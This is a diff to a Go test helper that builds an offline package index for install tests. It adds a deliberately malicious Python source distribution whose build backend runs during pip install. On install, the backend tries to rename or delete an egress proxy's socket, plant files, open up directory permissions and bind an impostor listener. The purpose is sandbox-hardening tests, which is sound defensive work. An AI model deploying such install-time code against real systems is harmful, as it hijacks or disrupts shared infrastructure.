@@ -1,7 +1,8 @@
 // Package pkgindex is the content of the package index the install tests
 // use instead of the internet: a pip "simple" index with one wheel
-// (runhost-greet 1.0) and an npm registry with one package
-// (runhost-greet-js 1.0.0), both built here. Each suite serves it its own
+// (runhost-greet 1.0) and one hostile source distribution (runhost-evil
+// 1.0, whose build backend attacks the machinery installs share), and an
+// npm registry with one package (runhost-greet-js 1.0.0), all built here. Each suite serves it its own
 // way: a container on a Docker network, or a server on the Kubernetes test
 // cluster's bridge.
 package pkgindex
@@ -37,6 +38,14 @@ func Files(base string) (map[string][]byte, error) {
 	files["files/"+wheelName] = wheel
 	files["simple/runhost-greet/index.html"] = fmt.Appendf(nil,
 		`<html><body><a href="/files/%s#sha256=%x">%s</a></body></html>`, wheelName, sum, wheelName)
+	evilName, evil, err := evilSdist()
+	if err != nil {
+		return nil, err
+	}
+	evilSum := sha256.Sum256(evil)
+	files["files/"+evilName] = evil
+	files["simple/runhost-evil/index.html"] = fmt.Appendf(nil,
+		`<html><body><a href="/files/%s#sha256=%x">%s</a></body></html>`, evilName, evilSum, evilName)
 	tgz, err := npmTarball()
 	if err != nil {
 		return nil, err
@@ -93,6 +102,72 @@ func wheel() (string, []byte, error) {
 		return "", nil, err
 	}
 	return "runhost_greet-1.0-py3-none-any.whl", buf.Bytes(), nil
+}
+
+// EvilMark starts the line of JSON runhost-evil's build backend writes to
+// stderr: what it tried against the egress proxy's socket, and how each
+// attempt ended ("DONE" or the error), and whether the proxy still answered
+// ("proxy": "ok").
+const EvilMark = "RUNHOST-EVIL "
+
+// evilBackend is runhost-evil's in-tree PEP 517 build backend: pip runs it
+// while installing the source distribution, as the install step's user,
+// needing nothing from the index. It does what a malicious package's
+// build would do to the shared machinery: find the egress proxy's socket,
+// rename and remove it, bind its own listener in its place or beside it,
+// open up the directory; then it checks the proxy still answers, reports,
+// and fails the build (so nothing is cached).
+const evilBackend = `import glob, json, os, socket, stat, sys, urllib.request
+
+def _attack():
+    res = {}
+    socks = [p for p in glob.glob('/.runhost*/*') if stat.S_ISSOCK(os.lstat(p).st_mode)]
+    res['sockets'] = len(socks)
+    if socks:
+        sock = socks[0]
+        d = os.path.dirname(sock)
+        def attempt(name, f):
+            try:
+                f(); res[name] = 'DONE'
+            except OSError as e:
+                res[name] = e.strerror
+        attempt('rename', lambda: os.rename(sock, sock + '.old'))
+        attempt('unlink', lambda: os.unlink(sock))
+        attempt('create', lambda: open(d + '/planted', 'w').close())
+        attempt('chmod', lambda: os.chmod(d, 0o777))
+        evil = socket.socket(socket.AF_UNIX)
+        attempt('bind', lambda: (evil.bind(sock if not os.path.exists(sock) else d + '/evil.sock'), evil.listen()))
+    try:
+        urllib.request.urlopen(os.environ['PIP_INDEX_URL'] + '/runhost-greet/', timeout=10).read(); res['proxy'] = 'ok'
+    except Exception as e:
+        res['proxy'] = repr(e)
+    sys.stderr.write('` + EvilMark + `' + json.dumps(res) + '\n')
+    sys.stderr.flush()
+
+def get_requires_for_build_wheel(config_settings=None):
+    _attack()
+    raise SystemExit('runhost-evil: the build fails on purpose')
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    raise SystemExit('runhost-evil: the build fails on purpose')
+`
+
+// evilSdist makes the source distribution of runhost-evil 1.0.
+func evilSdist() (string, []byte, error) {
+	const dir = "runhost-evil-1.0/"
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	if err := writeTar(gz, map[string][]byte{
+		dir + "PKG-INFO":       []byte("Metadata-Version: 2.1\nName: runhost-evil\nVersion: 1.0\n"),
+		dir + "pyproject.toml": []byte("[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n"),
+		dir + "backend.py":     []byte(evilBackend),
+	}); err != nil {
+		return "", nil, err
+	}
+	if err := gz.Close(); err != nil {
+		return "", nil, err
+	}
+	return "runhost-evil-1.0.tar.gz", buf.Bytes(), nil
 }
 
 // npmTarball makes the npm tarball of runhost-greet-js 1.0.0.
